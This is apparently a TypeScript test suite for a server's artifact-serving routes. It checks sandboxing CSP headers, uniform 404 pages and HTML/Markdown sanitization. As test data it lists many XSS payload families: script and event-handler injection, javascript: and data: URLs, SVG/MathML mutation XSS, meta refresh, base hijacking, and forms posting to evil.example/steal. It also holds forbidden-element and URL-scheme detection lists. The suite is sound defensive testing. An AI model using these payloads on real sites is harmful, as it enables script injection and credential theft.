/**
 * The browser routes of spec §4.1 over real HTTP: `/a/<public_slug>` and `/artifacts/<uuid>` serve one artifact
 * as a standalone HTML document under the sandboxing CSP of architecture §10 (on every status), 404 as an HTML
 * page for anything missing or not viewable (with one body for both, so nothing leaks), Markdown rendered when
 * read (wikilinks resolved as the anonymous reader, front matter hidden, GFM), and every
 * attack family of security.md "Untrusted content" pushed through push_web_page and push_markdown, plus content
 * planted straight into the database, coming out clean on every read path.
 */
import { expect, layer } from "@effect/vitest"
import { Effect } from "effect"
import { bearer, fetchReply, type Reply, unique } from "./support/Http.ts"
import { register } from "./support/Identity.ts"
import type { AnyClient, Era } from "./support/McpClients.ts"
import {
  actor,
  call,
  connect,
  createBucket,
  grant,
  labelledToken,
  newUser,
  ok,
  pushed as push,
  refused
} from "./support/McpTools.ts"
import { TestServer, TestServerLive } from "./support/TestServer.ts"

const MODERN: Era = "v2 modern"

const CSP =
  "sandbox; default-src 'none'; img-src 'self' https: data:; style-src 'unsafe-inline'; form-action 'none'; " +
  "base-uri 'none'; frame-ancestors 'self'"
const LINK_REL = `rel="noopener noreferrer nofollow ugc"`

// ---------------------------------------------------------------------------------------------------------------
// HTTP

/** GET a path of the server, never following redirects. */
const get = (path: string, headers: Record<string, string> = {}) =>
  Effect.flatMap(TestServer, (server) => fetchReply(`${server.url}${path}`, { redirect: "manual", headers }))

/** The headers every answer of /a/ and /artifacts/ carries, whatever its status. */
const expectArtifactHeaders = (reply: Reply) => {
  expect(reply.headers["content-type"]).toBe("text/html; charset=utf-8")
  expect(reply.headers["content-security-policy"]).toBe(CSP)
  expect(reply.headers["x-content-type-options"]).toBe("nosniff")
  expect(reply.headers["referrer-policy"]).toBe("no-referrer")
}

interface Served {
  readonly text: string
  /** the text of the document's <title> */
  readonly title: string
  /** the served body: what the document's <main> holds */
  readonly main: string
  /** what the document's <footer> holds */
  readonly footer: string
}

/** Splits a served document into its parts, checking that it is a standalone document with a stylesheet. */
const documentOf = (text: string): Served => {
  expect(text.startsWith("<!doctype html>")).toBe(true)
  const headEnd = text.indexOf("</head>")
  expect(headEnd).toBeGreaterThan(0)
  const head = text.slice(0, headEnd)
  const title = /<title>([^<]*)<\/title>/.exec(head)
  expect(title, "a <title> in the head").not.toBeNull()
  expect(head).toMatch(/<style>[^<]+<\/style>/)
  const open = text.indexOf("<body>\n<main>\n")
  const close = text.lastIndexOf("\n</main>\n<footer>")
  expect(open).toBeGreaterThan(headEnd)
  expect(close).toBeGreaterThan(open)
  const footerEnd = text.lastIndexOf("</footer>\n</body>\n</html>")
  expect(footerEnd).toBeGreaterThan(close)
  return {
    text,
    title: title![1]!,
    main: text.slice(open + "<body>\n<main>\n".length, close),
    footer: text.slice(close + "\n</main>\n<footer>".length, footerEnd)
  }
}

/** A 200 from an artifact route: the headers, and the document split into its parts. */
const served = (path: string) =>
  Effect.map(get(path), (reply) => {
    expect(reply.status, `${path}: ${reply.text.slice(0, 300)}`).toBe(200)
    expectArtifactHeaders(reply)
    return documentOf(reply.text)
  })

/** A 404 from an artifact route: an HTML page with the artifact headers; its text, to compare with others. */
const notFound = (path: string) =>
  Effect.map(get(path), (reply) => {
    expect(reply.status, path).toBe(404)
    expectArtifactHeaders(reply)
    expect(reply.text.startsWith("<!doctype html>")).toBe(true)
    expect(reply.text).toContain("Not found")
    return reply.text
  })

/** The paths of one artifact: by public slug, by UUID and by the UUID in upper case. */
const pathsOf = (part: { readonly id: string; readonly public_slug: string }) => [
  `/a/${part.public_slug}`,
  `/artifacts/${part.id}`,
  `/artifacts/${part.id.toUpperCase()}`
]

/** The 404 of an artifact that does not exist, to compare bodies with. */
const missingBody = notFound(`/a/no-such-artifact-${unique()}`)

// ---------------------------------------------------------------------------------------------------------------
// MCP

/** A user with a labelled write token (the agent label the footer names) and a connected client. */
const agent = Effect.gen(function*() {
  const user = yield* newUser
  const label = `agent-${unique()}`
  const token = (yield* labelledToken(user, label)).token
  return { user, label, token, client: yield* connect(token, MODERN) }
})

/** A Dock of `client`'s user: public unless told otherwise. */
const dockOf = (client: AnyClient, visibility: "public" | "private" = "public") =>
  createBucket(client, { title: `Artifacts ${visibility}`, slug: `art-${unique()}`, visibility })

/** The footer of a version: "Version N, written by <who> on <time>." with the version row's time. */
const footerFor = (partId: string, version: number, who: string) =>
  Effect.gen(function*() {
    const server = yield* TestServer
    const rows = yield* server.sql<{ created_at: Date }>`select created_at from part_versions
      where part_id = ${partId} and version = ${version}`
    expect(rows.length).toBe(1)
    const iso = new Date(rows[0]!.created_at).toISOString()
    return `Version ${version}, written by ${who} on <time datetime="${iso}">${iso.slice(0, 10)} ${
      iso.slice(11, 16)
    } UTC</time>.`
  })

// ---------------------------------------------------------------------------------------------------------------
// What "clean" means for a served body, checked on the output independently of the sanitizer

const NAMED_ENTITIES: Record<string, string> = {
  amp: "&",
  lt: "<",
  gt: ">",
  quot: "\"",
  apos: "'",
  colon: ":",
  tab: "\t",
  newline: "\n",
  sol: "/",
  lpar: "(",
  rpar: ")",
  nbsp: "\u00a0"
}

/** Character references decoded as a browser decodes them in an attribute value (with or without `;`). */
const decodeEntities = (value: string) =>
  value.replace(
    /&(?:#(\d+);?|#[xX]([0-9a-fA-F]+);?|([a-zA-Z]+);)/g,
    (whole, dec?: string, hex?: string, name?: string) => {
      if (dec !== undefined) return String.fromCodePoint(Math.min(Number(dec), 0x10ffff))
      if (hex !== undefined) return String.fromCodePoint(Math.min(parseInt(hex, 16), 0x10ffff))
      return NAMED_ENTITIES[name!.toLowerCase()] ?? whole
    }
  )

// Elements security.md "Untrusted content" rules out: script-capable, raw-text, foreign, form, frame, embed, base,
// meta, link, template and noscript. A <style> is kept with sanitized CSS only (issue 18, docs/decisions.md): its
// CSS is checked on its own (unsafeCss).
const FORBIDDEN_ELEMENTS = new Set([
  "script",
  "svg",
  "math",
  "iframe",
  "frame",
  "frameset",
  "object",
  "embed",
  "applet",
  "base",
  "meta",
  "link",
  "form",
  "button",
  "select",
  "option",
  "textarea",
  "template",
  "noscript",
  "xmp",
  "noembed",
  "noframes",
  "title",
  "plaintext",
  "foreignobject",
  "use",
  "image",
  "animate",
  "set",
  "portal",
  "fencedframe",
  "param",
  "source",
  "video",
  "audio",
  "isindex",
  "keygen"
])
const FORBIDDEN_ATTRIBUTES = new Set([
  "srcdoc",
  "srcset",
  "action",
  "formaction",
  "xlink:href",
  "name",
  "form",
  "data",
  "codebase",
  "http-equiv",
  "background",
  "dynsrc",
  "lowsrc",
  "shadowrootmode",
  "is"
])
const ALLOWED_ID = /^(?:user-content-\S+|footnote-label)$/

const TAG = /<(\/?)([a-zA-Z][^\s/>]*)((?:\s+[^\s"'>/=]+(?:\s*=\s*(?:"[^"]*"|'[^']*'|[^\s"'=<>`]+))?)*)\s*\/?>/g
const ATTRIBUTE = /([^\s"'>/=]+)(?:\s*=\s*(?:"([^"]*)"|'([^']*)'|([^\s"'=<>`]+)))?/g

interface Tag {
  readonly name: string
  readonly closing: boolean
  readonly attributes: ReadonlyArray<readonly [name: string, value: string]>
}

/** The tags of an HTML fragment, and whatever text is left between them. */
const tokenize = (html: string) => {
  const tags: Array<Tag> = []
  const text = html.replace(TAG, (_whole, closing: string, name: string, attributes: string) => {
    tags.push({
      name: name.toLowerCase(),
      closing: closing === "/",
      attributes: [...attributes.matchAll(ATTRIBUTE)].map(([, attribute, double, single, bare]) =>
        [attribute!.toLowerCase(), decodeEntities(double ?? single ?? bare ?? "")] as const
      )
    })
    return ""
  })
  return { tags, text }
}

/**
 * What in CSS could load, run, bind or cover the window: escapes, comments, markup, any url() but a data: raster
 * image or a #fragment, @import, expression() and other loading functions, behaviours and bindings, fixed position.
 */
const unsafeCss = (css: string): Array<string> => {
  const problems: Array<string> = []
  if (/[\\<]|\/\*/.test(css)) problems.push(`escape, comment or markup in CSS ${css.slice(0, 80)}`)
  for (const [, target] of css.matchAll(/url\(\s*["']?([^"')\s]*)/gi)) {
    if (!/^(?:data:image\/(?:png|jpeg|gif|webp)[;,]|#)/i.test(target!)) problems.push(`CSS url(${target})`)
  }
  if (/@import|expression|image-set|behavior|binding|position\s*:\s*fixed|script:/i.test(css)) {
    problems.push(`CSS ${css.slice(0, 80)}`)
  }
  return problems
}

/** Everything in a served body that could run, navigate, submit, load or clobber: [] when clean. */
const unsafeParts = (served: string): Array<string> => {
  const problems: Array<string> = []
  // Each <style> holds CSS only, checked as CSS; what is left is checked as HTML.
  const html = served.replace(/<style>([^<]*)<\/style>/g, (_whole, css: string) => {
    problems.push(...unsafeCss(css))
    return ""
  })
  if (/<script/i.test(html)) problems.push("<script")
  const { tags, text } = tokenize(html)
  for (const tag of tags) {
    if (FORBIDDEN_ELEMENTS.has(tag.name)) problems.push(`element <${tag.name}>`)
    if (tag.name === "input" && !tag.closing) {
      const names = tag.attributes.map(([name]) => name).sort().join(" ")
      const type = tag.attributes.find(([name]) => name === "type")?.[1]
      if (type !== "checkbox" || !/^(?:checked )?disabled type$/.test(names)) problems.push(`input [${names}] ${type}`)
    }
    for (const [name, value] of tag.attributes) {
      if (/^on/.test(name)) problems.push(`event handler ${name}=${value}`)
      if (FORBIDDEN_ATTRIBUTES.has(name)) problems.push(`attribute ${name}=${value}`)
      if (name === "style") problems.push(...unsafeCss(value))
      if (name === "id" && !ALLOWED_ID.test(value)) problems.push(`id ${value}`)
      // Browsers drop tabs and newlines inside a URL and strip leading control characters and spaces.
      const squeezed = value.replace(/[\u0000-\u0020\u007f]/g, "").toLowerCase()
      for (const scheme of ["javascript:", "vbscript:", "data:text/html", "data:image/svg", "livescript:"]) {
        if (squeezed.includes(scheme)) problems.push(`${scheme} in ${tag.name} ${name}`)
      }
      if (["href", "src", "cite"].includes(name) && /[<>\n\r]/.test(value)) problems.push(`dangling URL ${value}`)
    }
    if (tag.name === "a" && !tag.closing && tag.attributes.some(([name]) => name === "href")) {
      const rel = tag.attributes.find(([name]) => name === "rel")?.[1]
      if (rel !== "noopener noreferrer nofollow ugc") problems.push(`link rel ${rel}`)
    }
  }
  // Text is escaped: anything left that a browser would read as markup (a tag, comment, CDATA, PI) is a failure.
  if (/<[a-zA-Z/!?]/.test(text)) problems.push(`markup left in text: ${JSON.stringify(text.slice(0, 120))}`)
  return problems
}

const expectClean = (html: string) => expect(unsafeParts(html)).toEqual([])

/** The elements of a served body, by name. */
const elementsOf = (html: string) => tokenize(html).tags.filter((tag) => !tag.closing).map((tag) => tag.name)

// ---------------------------------------------------------------------------------------------------------------
// The attack families of security.md "Untrusted content"

interface Family {
  readonly name: string
  readonly html: string
  readonly markdown: string
  /** Text of each payload that must survive in the served body. */
  readonly htmlSurvives: ReadonlyArray<string>
  readonly markdownSurvives: ReadonlyArray<string>
  /** More that must hold for this family, on the served body of either payload. */
  readonly also?: (main: string, kind: "html" | "markdown") => void
}

const FAMILIES: ReadonlyArray<Family> = [
  {
    name: "script elements",
    html: [
      `<p>script-safe-1</p>`,
      `<script>alert(1)</script>`,
      `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
      `<script type="module">import "https://evil.example/m.js"</script>`,
      `<ScRiPt>/*</ScRiPt ><p>script-safe-2</p>`,
      `<scr<script>ipt>alert(2)</script>`,
      `<p>script-safe-3</p>`
    ].join("\n"),
    markdown: [
      "# script-md-heading",
      "",
      "<script>alert(1)</script>",
      "",
      "Inline <script>alert(2)</script> script-md-inline",
      "",
      "<SCRIPT SRC=//evil.example/x.js></SCRIPT>"
    ].join("\n"),
    htmlSurvives: ["script-safe-1", "script-safe-3"],
    markdownSurvives: ["<h1>script-md-heading</h1>", "script-md-inline"],
    also: (main) => expect(main).not.toContain("alert(1)")
  },
  {
    name: "event handlers in every casing and separator",
    html: [
      `<img src="https://img.example/a.png" onerror="alert(1)" alt="handler-alt">`,
      `<p onclick="alert(2)">handler-click</p>`,
      `<body onload=alert(3)><div OnMouseOver="alert(4)">handler-hover</div>`,
      `<img/src="https://img.example/b.png"/onerror=alert(5)>`,
      `<a href="https://ok.example/" onfocus\t=alert(6) autofocus>handler-focus</a>`,
      `<details open ontoggle=alert(7)><summary>handler-toggle</summary></details>`,
      `<b/onpointerenter=alert(8)>handler-pointer</b>`,
      `<p\nONLOAD\n=\nalert(9)>handler-newline</p>`,
      `<video><source onerror=alert(10)></video>`,
      `<span onanimationstart=alert(11) onbegin=alert(12)>handler-anim</span>`
    ].join("\n"),
    markdown: [
      `![md-pic](https://img.example/a.png "t\\" onerror=\\"alert(1)")`,
      "",
      `[md-link](https://ok.example/ "x\\" onmouseover=\\"alert(2)")`,
      "",
      `<img src=x onerror=alert(3)>`,
      "",
      "<p onclick=alert(4)>raw</p>",
      "",
      "Inline <b onmouseover=alert(5)>bold</b> handler-md-text"
    ].join("\n"),
    htmlSurvives: [
      "handler-click",
      "handler-hover",
      "handler-focus",
      "handler-toggle",
      "handler-pointer",
      "handler-newline",
      "handler-anim",
      `href="https://ok.example/"`,
      `src="https://img.example/a.png"`
    ],
    markdownSurvives: ["md-link", "handler-md-text", `src="https://img.example/a.png"`, `alt="md-pic"`],
    also: (main, kind) => {
      if (kind === "html") return
      // a title that tries to break out of its attribute stays one attribute, holding exactly the text written
      const tags = tokenize(main).tags.filter((tag) =>
        (tag.name === "img" || tag.name === "a") && !tag.closing && tag.attributes.some(([name]) => name === "title")
      )
      expect(tags.map((tag) => [tag.name, tag.attributes.map(([name]) => name).sort()])).toEqual([
        ["img", ["alt", "src", "title"]],
        ["a", ["href", "rel", "title"]]
      ])
      expect(tags.map((tag) => tag.attributes.find(([name]) => name === "title")![1])).toEqual([
        `t" onerror="alert(1)`,
        `x" onmouseover="alert(2)`
      ])
    }
  },
  {
    name: "javascript:, vbscript: and data: URLs in href, src, action, formaction and xlink:href",
    html: [
      `<a href="javascript:alert(1)">url-js</a>`,
      `<a href="JaVaScRiPt:alert(2)">url-case</a>`,
      `<a href=" &#14;  javascript:alert(3)">url-control</a>`,
      `<a href="java\tscript:alert(4)">url-tab</a>`,
      `<a href="jav&#x0A;ascript:alert(5)">url-newline</a>`,
      `<a href="java<!-- -->script:alert(6)">url-comment</a>`,
      `<a href="vbscript:msgbox(7)">url-vb</a>`,
      `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCg4KTwvc2NyaXB0Pg==">url-data</a>`,
      `<img src="javascript:alert(9)" alt="url-img">`,
      `<img src="data:text/html,<script>alert(10)</script>" alt="url-img-data">`,
      `<form action="javascript:alert(11)"><button formaction="javascript:alert(12)">url-button</button></form>`,
      `<svg><a xlink:href="javascript:alert(13)"><text>url-svg</text></a></svg>`,
      `<a href="https://ok.example/path">url-ok</a>`
    ].join("\n"),
    markdown: [
      "[md-js](javascript:alert(1))",
      "",
      "[md-vb](vbscript:msgbox(2))",
      "",
      "[md-data](data:text/html;base64,PHNjcmlwdD5hbGVydCgzKTwvc2NyaXB0Pg==)",
      "",
      "<javascript:alert(4)> md-autolink",
      "",
      "[md-ref][r]",
      "",
      "[r]: javascript:alert(5)",
      "",
      "![md-img](javascript:alert(6))",
      "",
      "[md-tab](java\tscript:alert(7)) [md-pct](java%0Ascript:alert(8))",
      "",
      "[md-ok](https://ok.example/md)"
    ].join("\n"),
    htmlSurvives: [
      "url-js",
      "url-case",
      "url-control",
      "url-tab",
      "url-newline",
      "url-vb",
      "url-data",
      "url-ok",
      `href="https://ok.example/path"`
    ],
    markdownSurvives: [
      "md-js",
      "md-vb",
      "md-data",
      "md-autolink",
      "md-ref",
      "md-img",
      "md-tab",
      "md-ok",
      `href="https://ok.example/md"`
    ]
  },
  {
    name: "SVG and MathML with scripts (namespace confusion)",
    html: [
      `<svg><script>alert(1)</script><circle onload="alert(2)"/></svg>`,
      `<svg onload=alert(3)><p>svg-inner</p></svg>`,
      `<svg><foreignObject><iframe srcdoc="<script>alert(4)</script>"></iframe></foreignObject></svg>`,
      `<math><mtext><table><mglyph><style><img src=x onerror=alert(5)></style></mglyph></table></mtext></math>`,
      `<math href="javascript:alert(6)"><mi>x</mi></math>`,
      `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>alert(7)</script></svg>#x"/></svg>`,
      `<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoOCk+" alt="svg-data-alt">`,
      `<p>svg-safe</p>`
    ].join("\n"),
    markdown: [
      "<svg onload=alert(1)><script>alert(2)</script></svg>",
      "",
      "<math><mi>x</mi></math> math-md-text",
      "",
      "![svg-md-alt](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMyk+)",
      "",
      "svg-md-safe"
    ].join("\n"),
    htmlSurvives: ["svg-safe"],
    markdownSurvives: ["math-md-text", "svg-md-alt", "svg-md-safe"],
    also: (main) => {
      expect(main).not.toContain("svg+xml")
      expect(main).not.toMatch(/<\/?(?:svg|math|mglyph|mtext|foreignobject)/i)
    }
  },
  {
    name: "iframe, srcdoc, object and embed",
    html: [
      `<iframe src="https://evil.example/"></iframe>`,
      `<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;">frame-fallback</iframe>`,
      `<object data="javascript:alert(2)"><param name="x" value="y">object-fallback</object>`,
      `<embed src="https://evil.example/x.swf">`,
      `<frameset><frame src="javascript:alert(3)"></frameset>`,
      `<applet code="Evil.class">applet-fallback</applet>`,
      `<portal src="https://evil.example/"></portal>`,
      `<p>frame-safe</p>`
    ].join("\n"),
    markdown: [
      `<iframe src="https://evil.example/"></iframe>`,
      "",
      `<object data="https://evil.example/x"></object> <embed src="https://evil.example/y">`,
      "",
      "frame-md-safe"
    ].join("\n"),
    htmlSurvives: ["frame-safe"],
    markdownSurvives: ["frame-md-safe"],
    also: (main) => {
      expect(main).not.toContain("evil.example")
      expect(main).not.toMatch(/frame-fallback|object-fallback|applet-fallback/)
    }
  },
  {
    name: "style-based attacks: expression(), url(javascript:), @import and overlays",
    html: [
      `<style>@import url(https://evil.example/x.css); body { background: url(javascript:alert(1)) }</style>`,
      `<div style="width: expression(alert(2))">style-expression</div>`,
      `<p style="background-image: url(javascript:alert(3))">style-background</p>`,
      `<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:2147483647">style-overlay</div>`,
      `<link rel="stylesheet" href="https://evil.example/x.css">`,
      `<span style="behavior: url(x.htc); -moz-binding: url(https://evil.example/x.xml#x)">style-binding</span>`,
      `<p>style-safe</p>`
    ].join("\n"),
    markdown: [
      "<style>@import url(https://evil.example/x.css);</style>",
      "",
      `<div style="position:fixed;inset:0">overlay</div>`,
      "",
      "style-md-safe"
    ].join("\n"),
    htmlSurvives: ["style-expression", "style-background", "style-overlay", "style-binding", "style-safe"],
    markdownSurvives: ["style-md-safe"],
    also: (main) => {
      for (const fragment of ["expression(", "url(", "@import", "position:fixed", "evil.example", "behavior"]) {
        expect(main).not.toContain(fragment)
      }
    }
  },
  {
    name: "meta refresh",
    html: [
      `<meta http-equiv="refresh" content="0;url=javascript:alert(1)">`,
      `<head><meta http-equiv="refresh" content="0; url=https://evil.example/"></head>`,
      `<META HTTP-EQUIV="Set-Cookie" CONTENT="a=b">`,
      `<p>meta-safe</p>`
    ].join("\n"),
    markdown: [`<meta http-equiv="refresh" content="0; url=https://evil.example/">`, "", "meta-md-safe"].join("\n"),
    htmlSurvives: ["meta-safe"],
    markdownSurvives: ["meta-md-safe"],
    also: (main) => {
      expect(main.toLowerCase()).not.toContain("refresh")
      expect(main).not.toContain("evil.example")
    }
  },
  {
    name: "<base href> and <link>",
    html: [
      `<base href="https://evil.example/">`,
      `<base target="_blank">`,
      `<link rel="import" href="https://evil.example/x.html">`,
      `<link rel="preload" as="script" href="https://evil.example/x.js">`,
      `<a href="/relative/page">base-relative</a>`,
      `<p>base-safe</p>`
    ].join("\n"),
    markdown: [`<base href="https://evil.example/">`, "", "[base-md](/relative/md)"].join("\n"),
    htmlSurvives: ["base-relative", `href="/relative/page"`, "base-safe"],
    markdownSurvives: ["base-md", `href="/relative/md"`],
    also: (main) => {
      expect(main).not.toContain("evil.example")
      expect(main).not.toContain("target=")
    }
  },
  {
    name: "forms, inputs, buttons and formaction",
    html: [
      `<form id="login" action="https://evil.example/steal" method="post">`,
      `<input name="password" type="password" value="hunter2">`,
      `<input type="submit" formaction="https://evil.example/submit" value="Send">`,
      `<button formaction="javascript:alert(1)" form="login">form-button</button>`,
      `<select name="s"><option>form-option</option></select>`,
      `<textarea name="t">form-textarea</textarea>`,
      `<input type="image" src="https://img.example/x.png">`,
      `</form>`,
      `<input type="checkbox" name="agree" form="login" formaction="https://evil.example/">`,
      `<p>form-safe</p>`
    ].join("\n"),
    markdown: [
      `<form action="https://evil.example/"><input name="q"><button>go</button></form>`,
      "",
      "- [x] form-md-done",
      "- [ ] form-md-todo"
    ].join("\n"),
    htmlSurvives: ["form-button", "form-safe"],
    markdownSurvives: ["form-md-done", "form-md-todo"],
    also: (main, kind) => {
      expect(main).not.toContain("evil.example")
      expect(main).not.toContain("hunter2")
      expect(main).not.toMatch(/form-option|form-textarea/)
      if (kind === "markdown") expect(elementsOf(main).filter((name) => name === "input").length).toBe(2)
    }
  },
  {
    name: "DOM clobbering through ids and names",
    html: [
      `<form id="config"><input name="location"></form>`,
      `<img name="getElementById" id="cookie" src="https://img.example/c.png" alt="clobber-img">`,
      `<a id="defaultView" name="defaultView" href="https://ok.example/">clobber-link</a>`,
      `<div id="__proto__">clobber-proto</div>`,
      `<p id="body">clobber-body</p>`,
      `<a id="x"></a><a id="x" name="y" href="cid:z">clobber-collection</a>`
    ].join("\n"),
    markdown: [
      "clobber-md[^location] and more[^cookie].",
      "",
      "[^location]: first note",
      "[^cookie]: second note"
    ].join("\n"),
    htmlSurvives: ["clobber-img", "clobber-link", "clobber-proto", "clobber-body", "clobber-collection"],
    markdownSurvives: ["clobber-md", "first note", "second note", `id="user-content-fn-location"`],
    also: (main) => {
      const ids = tokenize(main).tags.flatMap((tag) =>
        tag.attributes.filter(([name]) => name === "id").map(([, v]) => v)
      )
      expect(ids.filter((id) => !ALLOWED_ID.test(id))).toEqual([])
      expect(main).not.toMatch(/\sname=/)
    }
  },
  {
    name: "mutation XSS through raw-text elements, templates, comments, CDATA and processing instructions",
    html: [
      `<noscript><p title="</noscript><img src=x onerror=alert(1)>">mx-noscript</p></noscript>`,
      `<template><img src=x onerror=alert(2)></template>`,
      `<svg><style><img src=x onerror=alert(3)></style></svg>`,
      `<math><mtext><style><img src=x onerror=alert(4)></style></mtext></math>`,
      `<xmp><img src=x onerror=alert(5)></xmp>`,
      `<textarea><img src=x onerror=alert(6)></textarea>`,
      `<title><img src=x onerror=alert(7)></title>`,
      `<noembed><img src=x onerror=alert(8)></noembed>`,
      `<noframes><img src=x onerror=alert(9)></noframes>`,
      `<div><template shadowrootmode="open"><img src=x onerror=alert(10)></template>mx-shadow-host</div>`,
      `<!--><img src=x onerror=alert(11)>-->`,
      `<![CDATA[><img src=x onerror=alert(12)>]]>`,
      `<?xml-stylesheet href="javascript:alert(13)"?>`,
      `<p>mx-safe</p>`
    ].join("\n"),
    markdown: [
      "```html",
      "<script>alert(1)</script>",
      "```",
      "",
      "Inline `<img src=x onerror=alert(2)>` mx-md-code",
      "",
      "<noscript><p title=\"</noscript><img src=x onerror=alert(3)>\"></noscript>",
      "",
      "<!-- <img src=x onerror=alert(4)> -->",
      "",
      "mx-md-safe"
    ].join("\n"),
    htmlSurvives: ["mx-shadow-host", "mx-safe"],
    markdownSurvives: [
      "mx-md-code",
      "mx-md-safe",
      // code keeps the payload as visible text, escaped
      "&lt;script&gt;alert(1)&lt;/script&gt;",
      "<code>&lt;img src=x onerror=alert(2)&gt;</code>"
    ]
  },
  {
    name: "encoded entities in URLs (&#106;avascript: and friends)",
    html: [
      `<a href="&#106;avascript:alert(1)">ent-dec</a>`,
      `<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(2)">ent-hex</a>`,
      `<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(3)">ent-padded</a>`,
      `<a href="javascript&colon;alert(4)">ent-colon</a>`,
      `<a href="java&Tab;script:alert(5)">ent-tab</a>`,
      `<img src="&#x6A;avascript:alert(6)" alt="ent-img">`,
      `<a href="&#x76;bscript:msgbox(7)">ent-vb</a>`,
      `<p>ent-safe</p>`
    ].join("\n"),
    markdown: [
      "[ent-md-dec](&#106;avascript:alert(1))",
      "",
      "[ent-md-hex](&#x6A;avascript:alert(2))",
      "",
      "[ent-md-colon](javascript&colon;alert(3))",
      "",
      "[ent-md-ref][e]",
      "",
      "[e]: &#106;avascript:alert(4)"
    ].join("\n"),
    htmlSurvives: ["ent-dec", "ent-hex", "ent-padded", "ent-colon", "ent-tab", "ent-vb", "ent-safe"],
    markdownSurvives: ["ent-md-dec", "ent-md-hex", "ent-md-colon", "ent-md-ref"]
  },
  {
    name: "unclosed, nested and dangling markup",
    html: [
      `<p>unclosed-safe<b><i>unclosed-bold`,
      `<a href="https://ok.example/?q=<img src=x onerror=alert(1)>">unclosed-dangle</a>`,
      `<a href="https://ok.example/"><a href="javascript:alert(2)">unclosed-nested-a</a></a>`,
      `<table><tr><td><script>alert(3)</script>unclosed-cell`,
      `<img src="https://img.example/ok.png" alt="</main><script>alert(4)</script>">`,
      `<div><div><div><span>unclosed-deep`,
      `<img src='https://evil.example/?steal=`
    ].join("\n"),
    markdown: [
      "**unclosed bold md-unclosed",
      "",
      "[unclosed link(https://ok.example/",
      "",
      "<div>",
      "<p>raw unclosed",
      "",
      "> > > md-nested-quote",
      "",
      "![dangle](https://img.example/x.png?q=<script>alert(1)</script>)",
      "",
      "md-after"
    ].join("\n"),
    htmlSurvives: [
      "unclosed-safe",
      "unclosed-bold",
      "unclosed-dangle",
      "unclosed-nested-a",
      "unclosed-cell",
      "unclosed-deep"
    ],
    markdownSurvives: ["md-unclosed", "md-nested-quote", "md-after"],
    also: (main) => {
      expect(main).not.toContain("steal=")
      expect(main).not.toContain("</main>")
    }
  }
]

// ---------------------------------------------------------------------------------------------------------------

layer(TestServerLive, { excludeTestServices: true, timeout: 120_000 })(
  "the artifact routes /a/ and /artifacts/",
  (it) => {
    it.scoped("an HTML page and a Markdown page of a public Dock: a standalone document under the artifact headers, by slug and by UUID", () =>
      Effect.gen(function*() {
        const owner = yield* agent
        const dock = yield* dockOf(owner.client)
        const title = `<b>&"x'`
        const html = yield* push(owner.client, "push_web_page", {
          bucket: dock.id,
          page_slug: "tides",
          page_title: title,
          page_content: `<h1>Tides</h1><p>Twice a <em>day</em>.</p><img src="https://img.example/t.png" alt="tide">`
        })
        expect(html.part.url.endsWith(`/a/${html.part.public_slug}`)).toBe(true)
        const native =
          ok(yield* call(owner.client, "get_web_page", { bucket: dock.id, web_page: html.part.id })).part.content

        const documents = yield* Effect.forEach(pathsOf(html.part), served)
        for (const document of documents) expect(document.text).toBe(documents[0]!.text)
        const page = documents[0]!
        // the title, escaped: the text a browser shows is exactly the page title, and nothing in it is markup
        expect(page.title).not.toMatch(/[<>"']/)
        expect(page.title).not.toMatch(/&(?!#\d+;|#x[0-9a-f]+;|[a-z]+;)/i)
        expect(decodeEntities(page.title)).toBe(title)
        expect(page.text).not.toContain("<b>&")
        // the body is the sanitized content, exactly what a native read gives
        expect(page.main).toBe(native)
        expect(page.main).toContain("<h1>Tides</h1><p>Twice a <em>day</em>.</p>")
        expect(page.main).toContain(`<img src="https://img.example/t.png" alt="tide" />`)
        expect(page.footer).toBe(yield* footerFor(html.part.id, 1, `${owner.label} (${owner.user.username})`))

        const markdown = yield* push(owner.client, "push_markdown", {
          bucket: dock.id,
          page_slug: "harbour",
          page_content: "# Harbour\n\nBoats leave at *dawn*, **always**.\n\n- one\n- two\n"
        })
        const markdownDocuments = yield* Effect.forEach(pathsOf(markdown.part), served)
        for (const document of markdownDocuments) expect(document.text).toBe(markdownDocuments[0]!.text)
        const rendered = markdownDocuments[0]!
        expect(rendered.title).toBe("Harbour")
        expect(rendered.main).toContain("<h1>Harbour</h1>")
        expect(rendered.main).toContain("<p>Boats leave at <em>dawn</em>, <strong>always</strong>.</p>")
        expect(rendered.main).toMatch(/<ul>\s*<li>one<\/li>\s*<li>two<\/li>\s*<\/ul>/)
        expect(rendered.main).not.toContain("# Harbour")
        expect(rendered.footer).toBe(yield* footerFor(markdown.part.id, 1, `${owner.label} (${owner.user.username})`))

        // an editor's agent updates the page: version 2, written by the editor's agent
        const editor = yield* agent
        yield* grant(dock.id, editor.user, "editor")
        const updated = yield* push(editor.client, "push_web_page", {
          bucket: dock.id,
          page_slug: "tides",
          page_title: title,
          page_content: "<p>Four times a day here.</p>"
        })
        expect(updated).toMatchObject({ action: "updated", part: { id: html.part.id, version: 2 } })
        for (const path of pathsOf(html.part)) {
          const after = yield* served(path)
          expect(after.main).toBe("<p>Four times a day here.</p>")
          expect(after.footer).toBe(yield* footerFor(html.part.id, 2, `${editor.label} (${editor.user.username})`))
          expect(after.footer.startsWith("Version 2, written by ")).toBe(true)
          expect(after.footer).not.toContain(owner.label)
        }
      }))

    it.scoped("every status carries the artifact headers: 404 for an unknown slug, an unknown UUID and a non-UUID is an HTML page", () =>
      Effect.gen(function*() {
        const missing = yield* missingBody
        const bodies = yield* Effect.forEach([
          `/a/no-such-${unique()}`,
          `/artifacts/${crypto.randomUUID()}`,
          `/artifacts/${crypto.randomUUID().toUpperCase()}`,
          "/artifacts/xyz",
          "/artifacts/12345678-1234-1234-1234-1234567890123"
        ], notFound)
        for (const body of bodies) expect(body).toBe(missing)
        const document = documentOf(missing)
        expect(document.title).toBe("Not found")
        expect(document.main).toContain("<h1>Not found</h1>")
